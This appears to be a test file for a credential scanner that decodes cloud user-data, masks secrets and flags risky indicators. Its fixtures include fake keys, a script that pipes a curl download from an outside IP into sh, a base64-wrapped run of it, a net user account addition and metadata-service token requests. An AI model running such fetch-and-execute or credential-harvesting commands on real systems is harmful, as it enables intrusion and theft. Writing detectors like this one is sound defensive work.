import fc from 'fast-check';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { decodeUserData } from '@/lib/payload/decode-payload';
import { findSecrets } from './find-secrets';
import { maskSecret } from './mask-secret';
import { readSecret } from './read-secret';

const bytesOf = (text: string) => new TextEncoder().encode(text);
const values = (text: string) => findSecrets(text).map(({ start, end }) => text.slice(start, end));
const PEM = [
  '-----BEGIN RSA PRIVATE KEY-----',
  'MIIEpAIBAAKCAQEA0Z3VS5JJcds3',
  'xfn/ygWyF0aJ9Qb0pQ',
  '-----END RSA PRIVATE KEY-----',
].join('\n');
const SECRET = 'q9Zx7Lk2Mn4Pp8Rt6Vw1Yb3Dc5Fg0Hj/KlQsXe+a';

describe('a credential is found', () => {
  it.each<[string, string]>([
    ['export AWS_ACCESS_KEY_ID=AKIAXYZ0123456789ABC', 'AKIAXYZ0123456789ABC'],
    [`aws configure set aws_secret_access_key ${SECRET}`, SECRET],
    [`printf '%s\\n' AKIAXYZ0123456789ABC ${SECRET} eu-west-1 json | aws configure`, SECRET],
    [`"SecretAccessKey": "${SECRET}"`, SECRET],
    [`aws_session_token = ${'IQoJb3JpZ2luX2VjE'.repeat(6)}`, 'IQoJb3JpZ2luX2VjE'.repeat(6)],
    ["echo 'ubuntu:hunter2!x' | sudo chpasswd", 'hunter2!x'],
    ['chpasswd <<< "root:toor99"', 'toor99'],
    ['chpasswd <<EOF\nalice:wonder1and\nEOF', 'wonder1and'],
    ['#cloud-config\nchpasswd:\n  list: |\n    root:s3same\n', 's3same'],
    ['#cloud-config\npassword: open sesame\n', 'open sesame'],
    [
      '    passwd: $6$rounds=4096$saltsalt$abcdefghijklmnopqrstuvwxyz0123456789',
      '$6$rounds=4096$saltsalt$abcdefghijklmnopqrstuvwxyz0123456789',
    ],
    ['echo hunter22 | passwd --stdin root', 'hunter22'],
    ['net user helper P4ss!word /add', 'P4ss!word'],
    ["$p = ConvertTo-SecureString 'Winter-2026' -AsPlainText -Force", 'Winter-2026'],
    ['ConvertTo-SecureString -String "Winter-2026" -AsPlainText -Force', 'Winter-2026'],
    ['reg add "HKLM\\...\\Winlogon" /v DefaultPassword /t REG_SZ /d Passw0rd', 'Passw0rd'],
    ["mysql -u root -p'r00t-pw' -e 'show databases'", 'r00t-pw'],
    ['sshpass -p geheim7 ssh a@b', 'geheim7'],
    ['DATABASE_URL=postgres://app:s3cr3t@db.internal:5432/app', 's3cr3t'],
    ['curl -u admin:letmein http://x/', 'letmein'],
    [
      'git clone https://oauth2:glpat-AbCdEfGhIjKlMnOpQrSt@gitlab.example.com/a.git',
      'glpat-AbCdEfGhIjKlMnOpQrSt',
    ],
    ['TOKEN=ghp_0123456789abcdefghijABCDEFGHIJ012345', 'ghp_0123456789abcdefghijABCDEFGHIJ012345'],
    ['SLACK=xoxb-1234567890-abcdefghij', 'xoxb-1234567890-abcdefghij'],
    [
      '//registry.npmjs.org/:_authToken=npm_abcdefghijklmnopqrstuvwxyz0123456789',
      'npm_abcdefghijklmnopqrstuvwxyz0123456789',
    ],
    [
      'X=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJlLWhlcmU',
      'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJlLWhlcmU',
    ],
    ['curl -H "Authorization: Bearer abc123def456ghi" https://x/', 'abc123def456ghi'],
    ['export DB_PASSWORD="corr ect-horse"', 'corr ect-horse'],
    ['docker run -e MYSQL_ROOT_PASSWORD=hunter2 mysql', 'hunter2'],
    ['helm install --set auth.password=hunter2 x', 'hunter2'],
    ['agent --api-key 0123456789abcdef0123456789abcdef', '0123456789abcdef0123456789abcdef'],
    ['{"password":"hunter2"}', 'hunter2'],
    ['machine api.example.com login me password hunter2', 'hunter2'],
    ["CREATE USER 'wp'@'localhost' IDENTIFIED BY 'ch0sen'", 'ch0sen'],
    ['<AdministratorPassword><Value>Hunter2x</Value>', 'Hunter2x'],
    [PEM, PEM],
    [PEM.replaceAll('\n', '\n      '), PEM.replaceAll('\n', '\n      ')],
    ['-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBg', '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBg'],
  ])('in %s', (text, value) => {
    expect(values(text)).toContain(value);
  });

  it('also far into a long line, whole', () => {
    const line = `${'x '.repeat(4090)}password=hunter2hunter2 ${'y '.repeat(9000)}AKIAXYZ0123456789ABC`;
    expect(values(line)).toEqual(['hunter2hunter2', 'AKIAXYZ0123456789ABC']);
  });
});

it.each([
  'TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 21600")',
  'curl -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/',
  'export DB_PASSWORD=$(aws ssm get-parameter --name /app/db --with-decryption)',
  'PASSWORD="${DB_PASSWORD}"',
  'aws secretsmanager get-secret-value --secret-id prod/web/db-password-2',
  'passwd: files sss',
  'lock_passwd: true',
  "sudo: ['ALL=(ALL) NOPASSWD:ALL']",
  'deploy ALL=(root) NOPASSWD: /usr/bin/systemctl',
  'ssh_pwauth: false',
  'sed -i s/PasswordAuthentication yes/PasswordAuthentication no/ /etc/ssh/sshd_config',
  'mkdir -p "/opt/app/data" && docker run -u 1000:1000 app',
  'DB_PASSWORD_FILE=/run/secrets/db',
  'password: "{{ vault_db_password }}"',
  '$Password = Get-Random -Minimum 100000',
  '$secure = ConvertTo-SecureString $plain -AsPlainText -Force',
  'docker login --username AWS --password-stdin 123456789012.dkr.ecr.eu-west-1.amazonaws.com',
  'aws ecr get-login-password --region eu-west-1 | docker login --username AWS --password-stdin x',
  'net user Administrator /active:yes',
  'secret: my-secret-name-in-the-cluster',
  'echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbqajDhA8AeX ops@example.com',
  'image: web@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  'systemctl restart sshd # password logins are off',
])('finds nothing in %s', (text) => {
  expect(values(text)).toEqual([]);
});

describe('the mask', () => {
  it('keeps the ends of what is long and nothing of what is short or chosen', () => {
    expect(maskSecret('AKIAXYZ0123456789ABC', 'aws-access-key')).toMatch(/^AKIA…9ABC·[\da-f]{4}$/);
    expect(maskSecret('hunter2', 'password')).toMatch(/^••••[\da-f]{4}$/);
    expect(maskSecret('a-very-long-password-that-somebody-chose', 'password')).toMatch(/^••••[\da-f]{4}$/);
    expect(maskSecret('0123456789abcdef', 'token')).toMatch(/^••••[\da-f]{4}$/);
  });

  it('differs for values that begin and end alike', () => {
    const masks = ['AKIAIOSFODNN7EXAMPLE', 'AKIAI44QH8DHBEXAMPLE', 'AKIAXXXXXXXXXXXXMPLE'].map((key) =>
      maskSecret(key, 'aws-access-key'),
    );
    expect(new Set(masks).size).toBe(3);
    expect(
      new Set(['hunter2', 'hunter3', 'Hunter2'].map((value) => maskSecret(value, 'password'))).size,
    ).toBe(3);
  });
});

const SECRETS = [
  'AKIAXYZ0123456789ABC',
  SECRET,
  'hunter2-hunter2',
  'ghp_0123456789abcdefghijABCDEFGHIJ012345',
  'MIIEpAIBAAKCAQEA0Z3VS5JJcds3',
];
const LEAKY = `#!/bin/bash
export AWS_ACCESS_KEY_ID=${SECRETS[0] ?? ''}
export AWS_SECRET_ACCESS_KEY=${SECRET}
net user helper hunter2-hunter2 /add
curl http://u:hunter2-hunter2@203.0.113.9/x -H "Authorization: Bearer ghp_0123456789abcdefghijABCDEFGHIJ012345" | sh
cat > key.pem <<END
${PEM}
END
`;

describe('a decoded payload', () => {
  const wraps: [string, Uint8Array][] = [
    ['as it is', bytesOf(LEAKY)],
    ['in gzip', new Uint8Array(gzipSync(LEAKY))],
    ['in UTF-16', new Uint8Array(Buffer.from(`\ufeff${LEAKY}`, 'utf16le'))],
    ['in Windows tags', bytesOf(`<powershell>${LEAKY}</powershell>`)],
    [
      'in MIME, the name of a part included',
      bytesOf(
        `MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: text/x-shellscript\nContent-Disposition: attachment; filename="AKIAXYZ0123456789ABC"\n\n${LEAKY}\n--x--\n`,
      ),
    ],
    [
      'in a cloud-config',
      bytesOf(`#cloud-config\nwrite_files:\n- path: /a\n  content: |\n${LEAKY.replace(/^/gm, '    ')}`),
    ],
  ];
  it.each(wraps)('holds no credential anywhere: %s', (_, bytes) => {
    const decoded = decodeUserData(bytes);
    expect(decoded.secrets.length).toBeGreaterThanOrEqual(5);
    const text = JSON.stringify(decoded);
    for (const secret of SECRETS) expect(text).not.toContain(secret);
  });

  it('masks what it decoded in place as well', () => {
    const decoded = decodeUserData(
      bytesOf(`#!/bin/sh\necho ${Buffer.from(LEAKY).toString('base64')} | base64 -d | sh\n`),
    );
    expect(decoded.hidden).not.toEqual([]);
    const text = JSON.stringify(decoded);
    for (const secret of SECRETS) expect(text).not.toContain(secret);
    expect(decoded.secrets[0]).toMatchObject({ line: 2, inside: ['base64'] });
    // Nor can it be had by decoding what is shown.
    const shown = decoded.parts[0]?.text ?? '';
    const decodable = (shown.match(/[A-Za-z\d+/=]{8,}/g) ?? []).map((run) =>
      Buffer.from(run, 'base64').toString(),
    );
    for (const secret of SECRETS) expect(decodable.join('\n')).not.toContain(secret);
  });

  it('keeps its lines where they were, so that findings point at them', () => {
    const { parts, indicators, secrets } = decodeUserData(bytesOf(LEAKY));
    expect(parts[0]?.text?.split('\n')).toHaveLength(LEAKY.split('\n').length);
    expect(secrets.map(({ kind, line }) => [kind, line])).toEqual([
      ['aws-access-key', 2],
      ['aws-secret-key', 3],
      ['password', 4],
      ['password', 5],
      ['token', 5],
      ['private-key', 7],
    ]);
    expect(indicators).toContainEqual(expect.objectContaining({ kind: 'pipe-to-shell', line: 5 }));
    expect(indicators).toContainEqual(expect.objectContaining({ kind: 'user-added', line: 4 }));
  });

  it('gives a single credential to who asks for it by number', () => {
    const bytes = bytesOf(LEAKY);
    const { secrets } = decodeUserData(bytes);
    expect(secrets.map(({ index }) => readSecret(bytes, index)?.secret)).toEqual(secrets);
    expect(readSecret(bytes, 1)?.value).toBe(SECRET);
    expect(readSecret(bytes, 5)?.value).toBe(PEM);
    expect(readSecret(bytes, 6)).toBeNull();
  });

  it('masks the documentation’s example keys too and says what they are', () => {
    const { secrets, indicators, parts } = decodeUserData(
      bytesOf('#!/bin/sh\naws configure set aws_access_key_id AKIAIOSFODNN7EXAMPLE\n'),
    );
    expect(secrets).toMatchObject([{ kind: 'aws-access-key', label: 'The documentation’s example key' }]);
    expect(indicators).toContainEqual(expect.objectContaining({ kind: 'access-key', severity: 'low' }));
    expect(parts[0]?.text).not.toContain('AKIAIOSFODNN7EXAMPLE');
  });

  it('cuts off what was not searched and says so', () => {
    const decoded = decodeUserData(
      new Uint8Array(
        gzipSync(`#!/bin/sh\n${'echo hello\n'.repeat(100_000)}export PASSWORD=hunter2-hunter2\n`),
      ),
    );
    expect(JSON.stringify(decoded)).not.toContain('hunter2-hunter2');
    expect(decoded.bounds.map(({ bound }) => bound)).toContain('scan');
  });
});

it('never loses a line and never overlaps, whatever the text', () => {
  const piece = fc.constantFrom(
    'password',
    'token',
    ': ',
    '=',
    '"',
    "'",
    '\n',
    '\r\n',
    '-----BEGIN PRIVATE KEY-----',
    '-----END PRIVATE KEY-----',
    'AKIAXYZ0123456789ABC',
    SECRET,
    '$',
    'chpasswd',
    '<<E\n',
    'a:b',
    '://',
    '@',
    ' ',
    '| ',
  );
  fc.assert(
    fc.property(
      fc.array(piece, { maxLength: 40 }).map((pieces) => `#!/bin/sh\n${pieces.join('')}`),
      (text) => {
        const spans = findSecrets(text);
        for (const [index, span] of spans.entries()) {
          expect(span.start).toBeGreaterThanOrEqual(spans[index - 1]?.end ?? 0);
          expect(span.end).toBeGreaterThan(span.start);
          expect(span.end).toBeLessThanOrEqual(text.length);
        }
        const bytes = bytesOf(text);
        const decoded = decodeUserData(bytes);
        expect(decoded.parts[0]?.text?.split(/\r\n|\r|\n/).length).toBe(text.split(/\r\n|\r|\n/).length);
        for (const { index } of decoded.secrets)
          expect(readSecret(bytes, index)?.secret).toEqual(decoded.secrets[index]);
      },
    ),
    { numRuns: 300 },
  );
});
